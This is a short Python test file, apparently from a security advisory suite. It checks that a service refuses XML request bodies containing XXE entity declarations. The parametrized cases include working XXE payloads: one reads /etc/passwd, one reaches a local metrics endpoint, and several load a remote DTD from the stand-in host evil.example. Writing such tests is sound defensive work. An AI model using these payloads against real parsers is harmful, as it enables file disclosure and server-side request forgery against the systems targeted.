"""XXE: an entity is a file or a URL, and the parser goes and reads it.

Here no entity is declared, and none is fetched.
"""

from __future__ import annotations

import pytest

from tests.advisories.attack import refused_body
from tests.support import World

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:8081/metrics">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
        '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE a PUBLIC "x" "http://evil.example/x.dtd">',
        "<!DOCTYPE a>",
        "",
    ],
)
async def test_entities(here: World, declared: str) -> None:
    await refused_body(here, f"{declared}<request>&x;</request>".encode())
